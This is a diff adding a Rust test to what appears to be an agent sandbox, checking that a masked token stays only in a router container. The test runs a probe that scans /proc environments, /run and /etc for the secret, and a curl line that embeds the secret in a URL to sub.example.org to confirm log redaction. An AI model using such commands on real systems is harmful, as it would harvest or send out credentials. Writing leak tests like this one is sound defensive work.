@@ -113,6 +113,53 @@ fn a_command_with_secrets_is_the_same_command() {
     assert_eq!(code(&sandbox.run(&["/etc/hosts"])), 126);
 }
 
+#[test]
+fn a_masked_value_is_in_the_router_and_nowhere_else() {
+    let sandbox = Sandbox::alone_with(ALLOW, &masked("!file token"));
+    let since = sandbox.scratch("since");
+    fs::write(&since, "").unwrap();
+    let value = in_file(&sandbox, "token");
+    let storage = podman(&["info", "--format", "{{.Store.GraphRoot}}"]);
+    let log = sandbox.scratch("network-log");
+    let backwards: String = value.chars().rev().collect();
+    {
+        let mut live = sandbox.start(&["--network-log", log.to_str().unwrap()]);
+        let surrogate = live.sh("echo $TOKEN");
+        assert_eq!(surrogate.trim().len(), value.len());
+        assert_ne!(surrogate.trim(), value);
+        // Not in the environment, memory or files of anything inside; the needle is put together there.
+        let search = format!(
+            "value = \"{backwards}\"[::-1].encode()\nimport glob, os, re\nfound = []\n\
+             for path in glob.glob(\"/proc/[0-9]*/environ\") + glob.glob(\"/proc/[0-9]*/cmdline\") + glob.glob(\"/run/**\", recursive=True) + glob.glob(\"/etc/**\", recursive=True):\n\
+             \x20try:\n\x20\x20data = open(path, \"rb\").read()\n\x20except OSError: continue\n\x20if value in data: found.append(path)\n\
+             import json; print(json.dumps(found))"
+        );
+        assert_eq!(live.probe(&search), serde_json::json!([]));
+        assert!(!visible().contains(&value));
+        assert_eq!(holding(&value, storage.trim(), &since), "");
+        let router = live.container("router", "router");
+        assert!(
+            podman(&["exec", &router, "cat", "/run/sandboxc/credentials.json"]).contains(&value),
+            "the search can find it"
+        );
+        // What the agent knows all the same does not get into a log.
+        live.sh(&format!(
+            "curl -sS -o /dev/null http://sub.example.org/$(python3 -c 'print(\"{backwards}\"[::-1])')/x; sleep 0.3"
+        ));
+        let said = sandbox.command(&["logs", &live.session]).output().unwrap();
+        assert!(text(&said.stdout).contains("[redacted]"), "{}", text(&said.stdout));
+        assert!(!text(&said.stdout).contains(&value));
+    }
+    let log = fs::read_to_string(log).unwrap();
+    assert!(log.contains("[redacted]") && !log.contains(&value), "{log}");
+    assert_eq!(holding(&value, storage.trim(), &since), "");
+    assert_eq!(holding(&value, &std::env::var("XDG_RUNTIME_DIR").unwrap(), &since), "");
+    for target in ["kube", "script"] {
+        let output = sandbox.command(&["compile", "--target", target, "--", "true"]).output().unwrap();
+        assert!(!text(&output.stdout).contains(&value) && !text(&output.stderr).contains(&value));
+    }
+}
+
 /// A manifest names podman secrets, starts nothing without them, and holds no value.
 #[test]
 fn a_compiled_sandbox_takes_its_secrets_from_podman_or_does_not_start() {
